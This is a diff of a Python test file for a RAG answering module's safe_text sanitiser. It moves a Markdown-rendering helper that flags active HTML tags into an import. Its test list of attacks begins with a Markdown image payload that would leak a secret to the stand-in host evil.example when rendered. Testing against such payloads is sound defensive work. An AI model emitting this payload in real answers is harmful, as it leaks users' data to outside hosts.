@@ -2,29 +2,12 @@
 
 from __future__ import annotations
 
-import re
-
-import mistune
 import pytest
+from active_markdown import active
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
 from modelops.rag.answering import safe_text
-
-COMMONMARK = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-MISTUNE = mistune.create_markdown(escape=False, plugins=["url", "table", "footnotes", "strikethrough", "def_list"])
-ACTIVE = re.compile(r"<(?!/?(?:p|ul|ol|li|em|strong|code|pre|h[1-6]|hr|br|blockquote|del|s|dl|dt|dd|t[a-z]+)\b)[^>]*>")
-
-
-def rendered(text: str) -> str:
-    return f"{COMMONMARK.render(text)}\n{MISTUNE(text)}"
-
-
-def active(text: str) -> list[str]:
-    """The tags that two readers of Markdown make of a text, but those that only shape it."""
-    return ACTIVE.findall(rendered(text))
-
 
 ATTACKS = [
     "![x](https://evil.example/?q=secret)",
